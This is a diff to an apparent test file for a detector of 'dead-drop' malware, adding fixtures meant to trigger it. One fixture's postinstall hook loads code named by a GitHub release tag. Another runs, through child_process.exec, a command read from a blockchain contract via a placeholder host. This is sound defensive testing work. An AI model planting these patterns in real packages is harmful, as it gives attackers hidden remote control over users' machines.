@@ -8,6 +8,14 @@ const CHAIN = ['mainnet', 'infura', 'io'].join('.');
 examine(takesOrdersFromDeadDrop, {
   speaks: [
     {
+      when: 'what is built at install lies under the name of the release that was asked for',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node install.js' } },
+        'install.js': `const path = require('path'); const ask = (owner, name) => fetch('https://api.github.com/repos/' + owner + '/' + name + '/releases/latest').then(answer => answer.json()); const repository = (process.env.SPECIMEN_REPOSITORY || process.argv[2]).split('/'); ask(...repository).then(({ tag_name: tag }) => require(path.join(__dirname, 'builds', 'auto-release-' + tag, 'binding.js')));`,
+      },
+      weight: 'weak',
+    },
+    {
       when: 'what a contract says stands in a command, whichever computer is asked for it',
       files: {
         'index.js': `const { ethers } = require('ethers'); (async () => { const chain = new ethers.JsonRpcProvider('https://rpc.invalid'); const page = new ethers.Contract('0x0', ['function get() view returns (string)'], chain); require('child_process').exec('inert-fetch ' + (await page.get()), { windowsHide: true }); })();`,
